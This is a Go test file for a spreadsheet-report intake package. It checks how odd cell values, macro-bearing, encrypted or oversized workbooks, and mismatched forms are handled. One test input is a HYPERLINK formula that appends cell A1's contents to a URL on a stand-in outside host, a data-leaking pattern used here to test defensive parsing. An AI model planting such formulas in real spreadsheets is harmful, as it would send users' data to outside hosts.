package intake_test

import (
	"archive/zip"
	"bytes"
	"errors"
	"io"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"

	"loa/intake"
	"loa/mail/results"
	"loa/plan/calendar"
	"loa/plan/indicator"
	"loa/plan/period"
	"loa/report/form"
	"loa/sheet"
)

// periodsOf2027 are the periods of a year.
func periodsOf2027(t testing.TB) []period.Period {
	t.Helper()
	days, err := calendar.New(nil)
	if err != nil {
		t.Fatal(err)
	}
	periods, _ := period.Generate(period.DefaultRules(), 2027, days)
	return periods
}

// asked2027 is what is asked for in the first quarter of 2027.
func asked2027(t testing.TB) results.FiguresAsked {
	t.Helper()
	return intake.AskedFigures(indicator.Shipped(), periodsOf2027(t)[0], calendar.Date{}).Prepared()
}

// formula is a cell with a formula and its last value.
type formula struct {
	text string
	last any
}

// setCell sets a cell as the kind of its value says.
func setCell(t testing.TB, f *excelize.File, sheetName, at string, value any) {
	t.Helper()
	var err error
	switch v := value.(type) {
	case formula:
		err = errors.Join(f.SetCellValue(sheetName, at, v.last), f.SetCellFormula(sheetName, at, v.text))
	case string:
		err = f.SetCellStr(sheetName, at, v)
	default:
		err = f.SetCellValue(sheetName, at, v)
	}
	if err != nil {
		t.Fatal(err)
	}
}

// tableOf is a table as a unit makes it: a name, a unit and values in a row.
func tableOf(t testing.TB, rows [][]any, change func(*excelize.File)) []byte {
	t.Helper()
	f := excelize.NewFile()
	defer f.Close()
	rows = append([][]any{{"STT", "Nội dung", "Đơn vị tính", "Trong kỳ", "Lũy kế", "Ghi chú"}}, rows...)
	for r, row := range rows {
		for c, value := range row {
			at, err := excelize.CoordinatesToCellName(c+1, r+1)
			if err != nil {
				t.Fatal(err)
			}
			if value != nil {
				setCell(t, f, "Sheet1", at, value)
			}
		}
	}
	if change != nil {
		change(f)
	}
	return bytesOf(t, f)
}

func bytesOf(t testing.TB, f *excelize.File, options ...excelize.Options) []byte {
	t.Helper()
	var out bytes.Buffer
	if err := f.Write(&out, options...); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// formWith is the form of a unit with values in the cells of indicators.
func formWith(t testing.TB, values map[string]any) []byte {
	t.Helper()
	p := periodsOf2027(t)[0]
	var out bytes.Buffer
	made := form.Form{Plan: "kh-2027", Period: p, Unit: "ba-dinh", UnitName: "UBND phường Ba Đình", Indicators: indicator.Shipped().On(p.To)}
	if err := form.Write(&out, made, formKey); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&out)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for _, defined := range f.GetDefinedName() {
		_, at, _ := strings.Cut(defined.RefersTo, "!")
		if value, has := values[strings.TrimPrefix(defined.Name, "LOA_")]; has {
			setCell(t, f, form.SheetFigures, strings.ReplaceAll(at, "$", ""), value)
		}
	}
	return bytesOf(t, f)
}

var formKey = []byte("khóa của bản cài đặt này")

// withPart is an archive with one more part.
func withPart(t testing.TB, content []byte, name string) []byte {
	t.Helper()
	old, err := zip.NewReader(bytes.NewReader(content), int64(len(content)))
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	archive := zip.NewWriter(&out)
	for _, part := range old.File {
		if err := archive.Copy(part); err != nil {
			t.Fatal(err)
		}
	}
	w, err := archive.Create(name)
	if err == nil {
		_, err = io.WriteString(w, "macro")
	}
	if err = errors.Join(err, archive.Close()); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// toldOf lists figures as "NEWS 12", with what is unusual about them, and doubts as "? value".
func toldOf(r results.Report) (lines []string) {
	for _, f := range r.Figures {
		line := f.Indicator + " " + f.Value.String()
		if f.Kind != results.FigureExact {
			line += " " + string(f.Kind)
		}
		if f.Confidence != results.ConfidenceHigh {
			line += " asked"
		}
		lines = append(lines, line)
	}
	slices.Sort(lines)
	for _, d := range r.Doubts {
		lines = append(lines, "? "+string(d.Reason))
	}
	return lines
}

// badValues are what people write into the place of a number.
func badValues() []struct {
	name  string
	value any
	form  []string // what is read of it in a form
	table []string // and in a table of the unit's own
} {
	return []struct {
		name  string
		value any
		form  []string
		table []string
	}{
		{"a formula gives what it gave last, and is asked", formula{"=5+7", 12}, []string{"ART 5", "NEWS 12 asked"}, []string{"ART 5", "NEWS 12 asked", "REP 1"}},
		{"a link in the place of a number", formula{`=HYPERLINK("https://x.test/?a="&A1,12)`, 12}, []string{"ART 5", "NEWS 12 asked"}, []string{"ART 5", "NEWS 12 asked", "REP 1"}},
		{"a formula without its value", formula{"=5+7", nil}, []string{"ART 5", "? value"}, []string{"ART 5", "REP 1", "? not_given"}},
		{"a number as text", "12", []string{"ART 5", "NEWS 12"}, []string{"ART 5", "NEWS 12", "REP 1"}},
		{"a number as text with a space", " 12 ", []string{"ART 5", "NEWS 12"}, []string{"ART 5", "NEWS 12", "REP 1"}},
		{"thousands as text", "1.250", []string{"ART 5", "NEWS 1250"}, []string{"ART 5", "NEWS 1250", "REP 1"}},
		{"a count below zero", -3, []string{"ART 5", "? value"}, []string{"ART 5", "REP 1", "? value"}},
		{"a day", time.Date(2027, 3, 12, 0, 0, 0, 0, time.UTC), []string{"ART 5", "? value"}, []string{"ART 5", "REP 1", "? value"}},
		{"a day as text", "12/3/2027", []string{"ART 5", "? value"}, []string{"ART 5", "REP 1", "? value"}},
		{"N/A", "N/A", []string{"ART 5", "? value"}, []string{"ART 5", "NEWS 0 ambiguous asked", "REP 1", "? not_given"}},
		{"an error of Excel", "#REF!", []string{"ART 5", "? value"}, []string{"ART 5", "REP 1", "? value"}},
		{"words", "nhiều", []string{"ART 5", "? value"}, []string{"ART 5", "REP 1", "? value"}},
		{"about a number", "khoảng 12", []string{"ART 5", "? what"}, []string{"ART 5", "NEWS 12 approximate", "REP 1"}},
		{"decimals of a count", 2.5, []string{"ART 5", "NEWS 2.5 ambiguous asked"}, []string{"ART 5", "NEWS 2.5 ambiguous asked", "REP 1"}},
		{"a number that is too large", 1e15, []string{"ART 5", "? what"}, []string{"ART 5", "REP 1", "? what"}},
		{"nothing", "", []string{"ART 5"}, []string{"ART 5", "REP 1", "? not_given"}},
		{"none, in words", "không phát sinh", []string{"ART 5", "NEWS 0 nil"}, []string{"ART 5", "NEWS 0 nil", "REP 1"}},
		{"two numbers", "12 + 5", []string{"ART 5", "NEWS 12 ambiguous asked", "? what"}, []string{"ART 5", "NEWS 12 ambiguous asked", "REP 1", "? what"}},
	}
}

func TestBadValues(t *testing.T) {
	t.Parallel()
	for _, test := range badValues() {
		t.Run(test.name, func(t *testing.T) {
			t.Parallel()
			inForm, err := intake.ReadReportFile(t.Context(), "bieu.xlsx", formWith(t, map[string]any{"NEWS": test.value, "ART": 5}), asked2027(t))
			if err != nil {
				t.Fatal(err)
			}
			inTable, err := intake.ReadReportFile(t.Context(), "bang.xlsx", tableOf(t, [][]any{{1, "Số bài", "bài", 5}, {2, "Số tin", "tin", test.value}, {3, "Phóng sự", "phóng sự", 1}}, nil), asked2027(t))
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(test.form, toldOf(inForm)); diff != "" {
				t.Errorf("in a form: %s", diff)
			}
			if diff := cmp.Diff(test.table, toldOf(inTable)); diff != "" {
				t.Errorf("in a table: %s", diff)
			}
		})
	}
}

// TestBadFiles reads files that are no report, or none that can be read surely.
func TestBadFiles(t *testing.T) {
	t.Parallel()
	good := tableOf(t, [][]any{{1, "Số bài", "bài", 5}}, nil)
	for _, test := range []struct {
		name, file string
		content    func(t *testing.T) []byte
		fault      sheet.FaultKind
		want       []string
	}{
		{"macros", "bao-cao.xlsm", func(t *testing.T) []byte { t.Helper(); return withPart(t, good, "xl/vbaProject.bin") }, sheet.FaultMacro, nil},
		{"macros under the name of a workbook without", "bao-cao.xlsx", func(t *testing.T) []byte { t.Helper(); return withPart(t, good, "xl/vbaProject.bin") }, sheet.FaultMacro, nil},
		{"a password", "bao-cao.xlsx", func(t *testing.T) []byte {
			t.Helper()
			f := excelize.NewFile()
			defer f.Close()
			return bytesOf(t, f, excelize.Options{Password: "matkhau"})
		}, sheet.FaultEncrypted, nil},
		{"more rows than Excel files may have here", "bao-cao.xlsx", func(t *testing.T) []byte { t.Helper(); return longTable(t, 20_001) }, sheet.FaultTooLarge, nil},
		{"20,000 rows are in doubt as a whole", "bao-cao.xlsx", func(t *testing.T) []byte { t.Helper(); return longTable(t, 19_999) }, "", []string{"? too_long"}},
		{"a total merged over two columns counts once", "bao-cao.xlsx", func(t *testing.T) []byte {
			t.Helper()
			return tableOf(t, [][]any{{1, "Số bài", "bài", 5, 9}, {2, "Số tin", "tin", 12}}, func(f *excelize.File) {
				if err := f.MergeCell("Sheet1", "D3", "E3"); err != nil {
					t.Fatal(err)
				}
			})
		}, "", []string{"ART 5", "ART 9 cumulative", "NEWS 12", "? value"}},
		{"formulas in notes are not figures", "bao-cao.xlsx", func(t *testing.T) []byte {
			t.Helper()
			return tableOf(t, [][]any{{1, "Số bài", "bài", 5, nil, formula{`=HYPERLINK("https://x.test/1","7")`, 7}}}, nil)
		}, "", []string{"ART 5"}},
	} {
		t.Run(test.name, func(t *testing.T) {
			t.Parallel()
			report, err := intake.ReadReportFile(t.Context(), test.file, test.content(t), asked2027(t))
			fault, _ := errors.AsType[*sheet.Fault](err)
			switch {
			case test.fault != "" && (fault == nil || fault.Kind != test.fault || fault.Message == "" || fault.Advice == ""):
				t.Errorf("%+v, want the fault %s with advice", err, test.fault)
			case test.fault == "" && err != nil:
				t.Error(err)
			}
			if diff := cmp.Diff(test.want, toldOf(report)); diff != "" {
				t.Error(diff)
			}
		})
	}
}

// longTable has so many rows below its head.
func longTable(t testing.TB, rows int) []byte {
	t.Helper()
	f := excelize.NewFile()
	defer f.Close()
	stream, err := f.NewStreamWriter("Sheet1")
	if err == nil {
		err = stream.SetRow("A1", []any{"Nội dung", "Đơn vị tính", "Trong kỳ"})
	}
	for n := 2; n <= rows+1 && err == nil; n++ {
		at, _ := excelize.CoordinatesToCellName(1, n) // both are at least 1
		err = stream.SetRow(at, []any{"Số bài", "bài", 1})
	}
	if err = errors.Join(err, stream.Flush()); err != nil {
		t.Fatal(err)
	}
	return bytesOf(t, f)
}

// TestCheckForm compares for whom a form was made with the unit and period that are asked.
func TestCheckForm(t *testing.T) {
	t.Parallel()
	content := formWith(t, map[string]any{"NEWS": 12})
	for _, test := range []struct {
		name  string
		asked form.Identity
		key   []byte
		want  intake.FormStanding
	}{
		{"the form that was asked for", form.Identity{Plan: "kh-2027", Period: "2027-Q1", Unit: "ba-dinh"}, formKey, intake.FormOwn},
		{"of another plan", form.Identity{Plan: "kh-2027-2", Period: "2027-Q1", Unit: "ba-dinh"}, formKey, intake.FormOtherPlan},
		{"of another period", form.Identity{Plan: "kh-2027", Period: "2027-H1", Unit: "ba-dinh"}, formKey, intake.FormOtherPeriod},
		{"of another unit", form.Identity{Plan: "kh-2027", Period: "2027-Q1", Unit: "hoan-kiem"}, formKey, intake.FormOtherUnit},
		{"nothing is asked for", form.Identity{}, formKey, intake.FormOwn},
		{"of another installation", form.Identity{Unit: "hoan-kiem"}, []byte("khóa khác"), intake.FormUnsigned},
	} {
		t.Run(test.name, func(t *testing.T) {
			t.Parallel()
			got, _, err := intake.CheckForm(t.Context(), "bieu.xlsx", content, test.asked, [][]byte{test.key})
			refused := test.want == intake.FormOtherPlan || test.want == intake.FormOtherPeriod || test.want == intake.FormOtherUnit
			if err != nil || got != test.want || got.Refused() != refused {
				t.Errorf("%s, refused %v, %v", got, got.Refused(), err)
			}
		})
	}
	t.Run("a workbook without an identity is no form", func(t *testing.T) {
		t.Parallel()
		got, _, err := intake.CheckForm(t.Context(), "bang.xlsx", tableOf(t, [][]any{{1, "Số bài", "bài", 5}}, nil), form.Identity{}, [][]byte{formKey})
		if err != nil || got != intake.FormNone {
			t.Errorf("%s, %v", got, err)
		}
	})
}
